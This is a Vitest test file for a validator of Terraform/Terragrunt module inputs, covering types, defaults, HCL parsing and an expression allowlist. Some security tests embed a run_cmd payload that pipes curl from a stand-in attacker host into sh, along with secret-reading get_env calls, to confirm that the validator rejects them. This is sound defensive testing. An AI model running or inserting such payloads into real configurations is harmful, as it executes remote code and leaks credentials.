import { describe, expect, it } from "vitest";
import type { ScaffoldVariable } from "./scaffold-variable";
import { validateInputs } from "./validate-inputs";

function variable(name: string, type: string, extra: Partial<ScaffoldVariable> = {}): ScaffoldVariable {
  return {
    name,
    type,
    description: "",
    defaultJson: null,
    defaultText: null,
    required: true,
    sensitive: false,
    nullable: true,
    validations: [],
    ...extra,
  };
}

const optional = (defaultJson: unknown) => ({ required: false, defaultJson, defaultText: JSON.stringify(defaultJson) });

describe("validateInputs: types", () => {
  const subnets = variable("subnets", "list(object({ cidr = string, az = optional(string, \"a\"), public = optional(bool) }))");

  it("accepts well-typed values and returns them", async () => {
    const result = await validateInputs([variable("name", "string"), variable("count", "number"), variable("ha", "bool")], {
      name: "x",
      count: 3,
      ha: false,
    });
    expect(result).toEqual({ ok: true, inputs: { name: "x", count: 3, ha: false }, notes: [], dependencies: [] });
  });

  it("is strict: a numeric string is not a number, a number is not a string", async () => {
    const result = await validateInputs([variable("count", "number"), variable("name", "string"), variable("ha", "bool")], {
      count: "3",
      name: 3,
      ha: "true",
    });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.errors).toEqual([
      { path: "count", message: "Must be a number" },
      { path: "name", message: "Must be a string" },
      { path: "ha", message: "Must be a bool" },
    ]);
  });

  it("reports nested errors with paths", async () => {
    const result = await validateInputs([subnets, variable("tags", "map(string)")], {
      subnets: [{ cidr: "10.0.0.0/24" }, { cidr: 5, extra: 1 }, { az: "b" }],
      tags: { "my tag": 1, ok: "x" },
    });
    expect(!result.ok && result.errors).toEqual([
      { path: "subnets[1].cidr", message: "Must be a string" },
      { path: "subnets[1].extra", message: "Not an attribute of this object" },
      { path: "subnets[2].cidr", message: "Required" },
      { path: 'tags["my tag"]', message: "Must be a string" },
    ]);
  });

  it("checks sets (no duplicates), tuples and nulls inside collections", async () => {
    const result = await validateInputs([variable("s", "set(string)"), variable("t", "tuple([string, number])"), variable("l", "list(string)")], {
      s: ["a", "a"],
      t: ["a", "b"],
      l: ["a", null],
    });
    expect(!result.ok && result.errors).toEqual([
      { path: "s[1]", message: "Duplicate value in a set" },
      { path: "t[1]", message: "Must be a number" },
      { path: "l[1]", message: "Must not be null" },
    ]);
  });

  it("requires required inputs and rejects unknown ones", async () => {
    const result = await validateInputs([variable("name", "string")], { nmae: "x" });
    expect(!result.ok && result.errors).toEqual([
      { path: "nmae", message: "This module has no input with this name" },
      { path: "name", message: "Required" },
    ]);
  });

  it("rejects null only when the variable is not nullable", async () => {
    const vars = [variable("a", "string", { nullable: false, ...optional("x") }), variable("b", "string", optional("y"))];
    const result = await validateInputs(vars, { a: null, b: null });
    expect(!result.ok && result.errors).toEqual([{ path: "a", message: "Must not be null" }]);
    expect(await validateInputs(vars, { b: null })).toEqual({ ok: true, inputs: { b: null }, notes: [], dependencies: [] });
  });

  it("omits inputs equal to their default and optional attributes equal to theirs", async () => {
    const vars = [
      variable("region", "string", optional("eu-west-1")),
      variable("tags", "map(string)", optional({})),
      variable("net", "object({ cidr = string, az = optional(string, \"a\") })", optional({ cidr: "10.0.0.0/16" })),
      subnets,
    ];
    const result = await validateInputs(vars, {
      region: "eu-west-1",
      tags: {},
      net: { cidr: "10.0.0.0/16", az: "a" },
      subnets: [{ cidr: "10.0.1.0/24", az: "a", public: null }, { cidr: "10.0.2.0/24", az: "b" }],
    });
    expect(result).toEqual({ ok: true, inputs: { subnets: [{ cidr: "10.0.1.0/24" }, { cidr: "10.0.2.0/24", az: "b" }] }, notes: [], dependencies: [] });
  });

  it("keeps a required input even when it equals nothing special", async () => {
    expect(await validateInputs([variable("n", "number")], { n: 0 })).toEqual({ ok: true, inputs: { n: 0 }, notes: [], dependencies: [] });
  });

  it("normalises strings to NFC, as HCL does", async () => {
    const result = await validateInputs([variable("name", "string")], { name: "e\u0301" });
    expect(result.ok && result.inputs.name).toBe("é");
  });
});

describe("validateInputs: raw fields and expressions", () => {
  it("parses raw text as JSON or HCL and type-checks it", async () => {
    const vars = [variable("a", "any"), variable("b", "tuple([string, number])"), variable("c", "any")];
    const result = await validateInputs(vars, {
      a: { __hcl: '{ name = "x", list = [1, 2], lit = "$${x}" }' },
      b: { __hcl: '["a", 2]' },
      c: { __hcl: '"plain"' },
    });
    expect(result).toEqual({
      ok: true,
      inputs: { a: { name: "x", list: [1, 2], lit: "${x}" }, b: ["a", 2], c: "plain" },
      notes: [],
      dependencies: [],
    });
  });

  it("refuses expressions inside raw text, in HCL or as JSON markers, unless their path is a reference", async () => {
    const vars = [variable("a", "any")];
    const hcl = await validateInputs(vars, { a: { __hcl: '{ ref = dependency.vpc.outputs.id, cmd = run_cmd("id") }' } });
    expect(!hcl.ok && hcl.errors.map((e) => e.path)).toEqual(['a["cmd"]', 'a["ref"]']);
    const json = await validateInputs(vars, { a: { __hcl: '{"x": {"__expr": "run_cmd(\\"id\\")"}}' } });
    expect(!json.ok && json.errors).toEqual([{ path: 'a["x"]', message: expect.stringMatching(/switch the field to "Reference"/) }]);
  });

  it("reports raw text that is neither JSON nor HCL, or has the wrong type", async () => {
    const vars = [variable("a", "any"), variable("b", "tuple([string, number])"), variable("c", "any")];
    const result = await validateInputs(vars, { a: { __hcl: "{ name = }" }, b: { __hcl: "[1, 2]" }, c: { __hcl: "1 # comment" } });
    expect(!result.ok && result.errors.map((e) => e.path)).toEqual(["a", "b[0]", "c"]);
    expect(!result.ok && result.errors[0]!.message).toMatch(/Not valid HCL or JSON/);
    expect(!result.ok && result.errors[2]!.message).toMatch(/Comments/);
  });

  it("accepts only references for sensitive inputs, and checks their syntax", async () => {
    const vars = [variable("password", "string", { sensitive: true })];
    const plain = await validateInputs(vars, { password: "hunter2" });
    expect(!plain.ok && plain.errors[0]!.message).toMatch(/Sensitive input/);
    const literalExpr = await validateInputs(vars, { password: { __expr: '"hunter2"' } });
    expect(!literalExpr.ok && literalExpr.errors[0]!.message).toMatch(/plain value/);
    const broken = await validateInputs(vars, { password: { __expr: "get_env(" } });
    expect(!broken.ok && broken.errors[0]!.message).toMatch(/Not a valid HCL expression/);
    const injected = await validateInputs(vars, { password: { __expr: 'get_env("A")\nother = 1' } });
    expect(!injected.ok && injected.errors[0]!.message).toMatch(/^Not a valid HCL expression: unexpected "other"/);
    const withDefault = await validateInputs(vars, { password: { __expr: 'get_env("DB_PASSWORD", "hunter2")' } });
    expect(!withDefault.ok && withDefault.errors[0]!.message).toMatch(/default would be committed in plain text/);
    expect(await validateInputs(vars, { password: { __expr: ' get_env( "DB_PASSWORD" ) ' } })).toEqual({
      ok: true,
      inputs: { password: { __expr: 'get_env("DB_PASSWORD")' } },
      notes: [],
      dependencies: [],
    });
  });
});

describe("validateInputs: conditions", () => {
  const rule = (condition: string, errorMessage = "bad") => ({ validations: [{ condition, errorMessage }] });

  it.each([
    ["can(regex(\"^[a-z][a-z0-9-]*$\", var.x))", "vpc-1", "Vpc"],
    ["length(var.x) <= 5", "abcde", "abcdef"],
    ["length(var.x) >= 2", "ab", "a"],
    ["length(var.x) == 2", "é😀", "e"],
    ["contains([\"dev\", \"stage\", \"prod\"], var.x)", "dev", "qa"],
    ["can(cidrhost(var.x, 0))", "10.0.0.0/16", "10.0.0.0/33"],
    ["can(cidrnetmask(var.x))", "10.1.0.0/24", "fd00::/64"],
    ["can(regex(\"^a\", var.x)) && length(var.x) > 2 || var.x == \"b\"", "b", "ab"],
    ["var.x != \"\"", "a", ""],
  ])("checks %s", async (condition, good, bad) => {
    const vars = [variable("x", "string", rule(condition))];
    expect((await validateInputs(vars, { x: good })).ok).toBe(true);
    expect(await validateInputs(vars, { x: bad })).toEqual({ ok: false, errors: [{ path: "x", message: "bad" }], notes: [] });
  });

  it("checks numeric ranges and alltrue over for expressions", async () => {
    const vars = [
      variable("n", "number", rule("var.n >= 1 && var.n <= 10", "1 to 10")),
      variable("cidrs", "list(string)", rule("alltrue([for c in var.cidrs : can(cidrhost(c, 0))])", "CIDRs only")),
    ];
    expect((await validateInputs(vars, { n: 10, cidrs: ["10.0.0.0/8"] })).ok).toBe(true);
    const result = await validateInputs(vars, { n: 11, cidrs: ["10.0.0.0/8", "nope"] });
    expect(!result.ok && result.errors).toEqual([
      { path: "n", message: "1 to 10" },
      { path: "cidrs", message: "CIDRs only" },
    ]);
  });

  it("sees optional attribute defaults, like Terraform", async () => {
    const vars = [variable("o", "object({ size = optional(number, 3) })", rule("var.o.size < 5"))];
    expect((await validateInputs(vars, { o: {} })).ok).toBe(true);
    expect((await validateInputs(vars, { o: { size: 7 } })).ok).toBe(false);
  });

  it("returns conditions it cannot check as notes", async () => {
    const vars = [
      variable("x", "string", rule('fileexists(var.x)', "must exist")),
      variable("r", "string", { sensitive: true, ...rule("length(var.r) > 8", "long") }),
    ];
    const result = await validateInputs(vars, { x: "a", r: { __expr: 'get_env("R")' } });
    expect(result).toEqual({
      ok: true,
      inputs: { x: "a", r: { __expr: 'get_env("R")' } },
      dependencies: [],
      notes: [
        { path: "x", condition: "fileexists(var.x)", errorMessage: "must exist" },
        { path: "r", condition: "length(var.r) > 8", errorMessage: "long" },
      ],
    });
  });
});

describe("validateInputs: the expression allowlist (security review, issue 8)", () => {
  const attack = { __expr: 'run_cmd("sh","-c","curl -s http://attacker.example/x|sh")' };
  const vars = [
    variable("name", "string"),
    variable("port", "number", optional(8080)),
    variable("subnet_ids", "list(string)", optional([])),
    variable("network", "object({ vpc_id = string, tags = optional(map(string)) })", optional(null)),
    variable("token", "string", { sensitive: true, required: false, defaultJson: null }),
  ];
  const references = (...paths: string[]) => ({ expressions: { style: "terragrunt" as const, referencePaths: new Set(paths) } });

  it("refuses the attack payload on an ordinary field: it takes a plain value", async () => {
    const result = await validateInputs(vars, { name: attack });
    expect(result).toEqual({ ok: false, errors: [{ path: "name", message: expect.stringMatching(/^This field takes a plain value. To use a reference, switch the field to "Reference" first/) }], notes: [] });
  });

  it("refuses it as a reference and as a sensitive input too, naming the function", async () => {
    const asReference = await validateInputs(vars, { name: attack }, references("name"));
    expect(!asReference.ok && asReference.errors).toEqual([{ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) }]);
    const asSecret = await validateInputs(vars, { name: "x", token: { __expr: 'sops_decrypt_file("secrets.yaml")' } });
    expect(!asSecret.ok && asSecret.errors).toEqual([{ path: "token", message: expect.stringMatching(/^The function sops_decrypt_file\(\) is not allowed/) }]);
  });

  it("accepts allowed references where the builder switched the field, in canonical form, with the dependencies they read", async () => {
    const result = await validateInputs(
      vars,
      {
        name: { __expr: "dependency.app.outputs.name" },
        subnet_ids: { __expr: "dependency.vpc /* private */ .outputs.private_subnets" },
        network: { vpc_id: { __expr: "dependency.vpc.outputs.vpc_id" }, tags: { team: { __expr: 'get_env("TF_VAR_team")' } } },
        port: { __expr: 'tonumber(get_env("TF_VAR_port"))' },
      },
      references("name", "subnet_ids", "network.vpc_id", 'network.tags["team"]', "port"),
    );
    expect(result).toEqual({
      ok: true,
      inputs: {
        name: { __expr: "dependency.app.outputs.name" },
        subnet_ids: { __expr: "dependency.vpc.outputs.private_subnets" },
        network: { vpc_id: { __expr: "dependency.vpc.outputs.vpc_id" }, tags: { team: { __expr: 'get_env("TF_VAR_team")' } } },
        port: { __expr: 'tonumber(get_env("TF_VAR_port"))' },
      },
      notes: [],
      dependencies: [
        { path: "name", name: "app" },
        { path: "subnet_ids", name: "vpc" },
        { path: "network.vpc_id", name: "vpc" },
      ],
    });
  });

  it("lets a non-sensitive reference read only TF_VAR_<name>, and a sensitive input any variable", async () => {
    // The value of a non-sensitive input is printed in plan output, which CI posts on the PR.
    const leak = await validateInputs(vars, { name: { __expr: 'get_env("AWS_SECRET_ACCESS_KEY")' } }, references("name"));
    expect(!leak.ok && leak.errors).toEqual([
      { path: "name", message: expect.stringMatching(/^get_env\("AWS_SECRET_ACCESS_KEY"\): this input is not sensitive, so its value would be printed in the plan output/) },
    ]);
    const nested = await validateInputs(vars, { name: "x", network: { vpc_id: "vpc-1", tags: { team: { __expr: 'get_env("GITHUB_TOKEN")' } } } }, references('network.tags["team"]'));
    expect(!nested.ok && nested.errors.map((e) => e.path)).toEqual(['network.tags["team"]']);
    const secret = await validateInputs(vars, { name: "x", token: { __expr: 'get_env("DB_PASSWORD")' } });
    expect(secret.ok && secret.inputs).toEqual({ name: "x", token: { __expr: 'get_env("DB_PASSWORD")' } });
  });

    it("type-checks expressions whose type is known", async () => {
    const result = await validateInputs(vars, { name: "x", port: { __expr: 'get_env("TF_VAR_port")' }, subnet_ids: { __expr: 'get_env("TF_VAR_ids")' } }, references("port", "subnet_ids"));
    expect(!result.ok && result.errors).toEqual([
      { path: "port", message: "Must be a number; this expression gives a string: wrap it in tonumber(…)" },
      { path: "subnet_ids", message: "Must be a list(string); this expression gives a string" },
    ]);
  });

  it("allows var. and local. only in plain module blocks", async () => {
    const terragrunt = await validateInputs(vars, { name: { __expr: "var.name" } }, references("name"));
    expect(!terragrunt.ok && terragrunt.errors[0]!.message).toMatch(/^var\.<name> references are not available in this file/);
    const terraform = await validateInputs(vars, { name: { __expr: "var.name" } }, { expressions: { style: "terraform", referencePaths: new Set(["name"]) } });
    expect(terraform.ok && terraform.inputs).toEqual({ name: { __expr: "var.name" } });
  });

  it("leaves the expressions of a unit copied byte for byte alone", async () => {
    const result = await validateInputs(vars, { name: { __expr: "local.name" } }, { expressions: { style: "terragrunt", referencePaths: new Set(), origin: "copied" } });
    expect(result.ok && result.inputs).toEqual({ name: { __expr: "local.name" } });
  });
});
